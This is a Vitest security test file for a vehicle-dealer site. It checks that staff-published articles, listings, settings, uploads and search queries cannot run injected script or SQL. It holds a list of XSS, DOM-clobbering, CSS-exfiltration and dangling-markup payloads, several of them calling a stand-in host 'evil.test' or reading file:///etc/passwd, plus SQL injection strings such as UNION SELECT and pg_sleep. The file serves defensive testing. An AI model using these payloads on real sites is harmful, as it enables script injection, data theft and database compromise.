import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { addListing, changeListing } from '#test/factories/change-listings.ts';
import { aListing } from '#test/factories/listing-factory.ts';
import { createTestStaff, staffOrigin, type TestStaff } from '#test/factories/test-staff.ts';
import { activeMarkup, shownText } from './active-markup.ts';

/** What an insider, or who sits at an insider's desk, could publish. */
const markup: Record<string, string> = {
  'J01: handlers': '<img src=x onerror=zq7(1)><svg onload=zq7(1)><details open ontoggle=zq7(1)>',
  'J01: scripts': '<script>zq7(1)</script><ScRiPt src=//evil.test/x></sCrIpT>',
  'J02: ends': '</script><script>zq7(1)</script><!--<script>]]>\u2028',
  'J05: clobbering':
    '<form id=contact-form><input name=action></form><a id=config></a><a id=config name=url href=//evil.test>x</a><img name=currentScript src=/x><div id=__NEXT_DATA__>',
  'J06: style': '<style>input[value^=a]{background:url(//evil.test/a)}</style><p style="x:y">',
  'J06: base and meta': '<base href=//evil.test><meta http-equiv=refresh content="0;//evil.test">',
  'J06: forms and hints':
    '<form action=//evil.test><button>x</button></form><link rel=dns-prefetch href=//evil.test>',
  'J06: frames':
    '<iframe srcdoc="<script>zq7(1)</script>"></iframe><object data=//evil.test></object><embed src=//evil.test><portal src=//evil.test>',
  'J06: dangling': '<img src="//evil.test/?',
  'F02: schemes':
    '[a](javascript:zq7(1)) [b](java\nscript:zq7(1)) [c](data:text/html,zq7) [d](vbscript:zq7) <a href="jav&#x61;script:zq7(1)">e</a> <a href="javascript&colon;zq7(1)">f</a>',
  'H08: drawings':
    '<svg><use href="https://evil.test/x.svg#a"/><image href="file:///etc/passwd"/><foreignObject><iframe srcdoc="x"></iframe></foreignObject></svg>',
};

let staff: TestStaff;
beforeAll(async () => {
  staff = await createTestStaff({ role: 'owner' });
});
afterAll(() => staff.close());

const visit = async (path: string) => {
  const answer = await staff.app.request(staffOrigin + path);
  return { status: answer.status, html: await answer.text() };
};

/** Nothing runs, nothing is fetched from elsewhere, and no id of ours is taken. */
function expectHarmless(html: string, name: string) {
  expect(activeMarkup(html), name).toEqual([]);
  // Of data blocks, too: what stands in them closes nothing.
  for (const [, json = ''] of html.matchAll(/<script type="[^"]*json"[^>]*>(.*?)<\/script>/gs))
    expect(json).not.toMatch(/[<>&\u2028\u2029]/);
}

describe('M09 (J01, J02, J05, J06, F02): what staff publish', () => {
  let count = 0;
  it.each(Object.entries(markup))('%s, in an article', async (_, text) => {
    count += 1;
    const slug = `hostile-${count}`;
    const answer = await staff.post('/staff/content/articles/edit', {
      title: `Article ${text.slice(0, 60)}`,
      slug,
      excerpt: text.slice(0, 150).replaceAll('\n', ' '),
      text: `Words before.\n\n${text}\n\nWords after.`,
      'category-blog-articles': 'on',
      publishedOn: '2026-10-01',
      revision: '0',
      step: 'publish',
    });
    if (answer.status === 422) {
      // Links of a kind that no page may hold are named to whoever wrote them, and nothing is stored.
      const told = await answer.text();
      expect(told).toContain('Links may lead to pages');
      expectHarmless(told, 'editor');
      expect((await visit(`/knowledge-center/blog/${slug}/`)).status).toBe(404);
      return;
    }
    expect(answer.status).toBe(303);
    const page = await visit(`/knowledge-center/blog/${slug}/`);
    expect(page.status).toBe(200);
    expect(page.html).toContain('Words before.');
    expectHarmless(page.html, 'article');
    for (const path of ['/', '/knowledge-center/blog-articles/', '/feeds/articles.rss'])
      if (path.endsWith('.rss')) expect((await visit(path)).html).not.toMatch(/<script|<iframe/i);
      else expectHarmless((await visit(path)).html, path);
    for (const path of [
      `/staff/content/articles/edit?slug=${slug}`,
      `/staff/content/articles/versions?slug=${slug}`,
      '/staff/content',
      '/staff/audit',
    ])
      expect(activeMarkup(await (await staff.get(path)).text()), path).toEqual([]);
  });

  it.each(Object.entries(markup))('%s, in a listing', async (_, text) => {
    const { id } = await addListing(
      staff.repository,
      aListing({
        details: {
          title: text.slice(0, 110),
          description: text,
          stockNumber: text.slice(0, 30),
          colorExterior: text.slice(0, 40),
          engine: text.slice(0, 60),
          city: text.slice(0, 60),
        },
      }),
    );
    await staff.refresh.refresh();
    const list = await visit('/buses');
    expectHarmless(list.html, 'list');
    const path = new RegExp(`href="(/buses/${id}-[^"]*)"`).exec(list.html)?.[1] ?? '';
    const page = await visit(path);
    expect(page.status).toBe(200);
    expectHarmless(page.html, 'bus');
    expect(shownText(page.html)).toContain(text.slice(0, 40).split('\n')[0]!.trim());
    for (const own of [`/staff/inventory/${id}`, `/staff/inventory/${id}/preview`])
      expect(activeMarkup(await (await staff.get(own)).text()), own).toEqual([]);
    await changeListing(staff.repository, id, { status: 'withdrawn' });
  });

  it.each(['settings', 'entries/faqs/edit', 'entries/testimonials/edit'])(
    'in %s: kept as words or refused',
    async (path) => {
      const form = await (await staff.get(`/staff/content/${path}`)).text();
      const names = [...form.matchAll(/<(?:input|textarea)[^>]* name="([^"]+)"/g)];
      const values = Object.fromEntries(
        names.map(([, name = '']) => [name, '"><script>zq7(1)</script>']),
      );
      const answer = await staff.post(`/staff/content/${path}`, { ...values, revision: '0' });
      expect(answer.status).toBeLessThan(500);
      expect(activeMarkup(await answer.text())).toEqual([]);
      for (const page of ['/', '/contact', '/knowledge-center/faqs/'])
        expectHarmless((await visit(page)).html, page);
    },
  );
});

describe('M09: files of staff', () => {
  it.each([
    ['drawing.svg', '<svg xmlns="http://www.w3.org/2000/svg"><script>zq7(1)</script></svg>'],
    ['page.html', '<!doctype html><script>zq7(1)</script>'],
    ['photo.jpg', '<!doctype html><script>zq7(1)</script>'],
  ])('%s is refused by what is in it', async (name, text) => {
    const { id } = await addListing(staff.repository, aListing());
    const body = new FormData();
    body.append('photos', new Blob([text], { type: 'image/jpeg' }), name);
    const answer = await staff.post(`/staff/inventory/${id}/photos`, body);
    expect(answer.status).toBeLessThan(500);
    expect((await staff.repository.findById(id))?.images).toEqual([]);
  });
});

describe('M09: what staff look for', () => {
  it.each([
    "' OR 1=1--",
    "'; SELECT pg_sleep(5)--",
    '1) UNION SELECT sqlite_version()--',
    '%_\\',
    '"><img src=x onerror=zq7(1)>',
    '\u0000\ud800',
    'a'.repeat(2_000),
  ])('%j is looked for as it is', async (words) => {
    const q = encodeURIComponent(words.toWellFormed());
    for (const path of ['leads?state=all&', 'submissions?', 'inventory?', 'audit?member=']) {
      const answer = await staff.get(`/staff/${path}${path.endsWith('=') ? q : `q=${q}`}`);
      expect(answer.status, path).toBe(200);
      const html = await answer.text();
      expect(activeMarkup(html), path).toEqual([]);
      expect(html).not.toMatch(/SQLITE_|syntax error/);
    }
  });
});
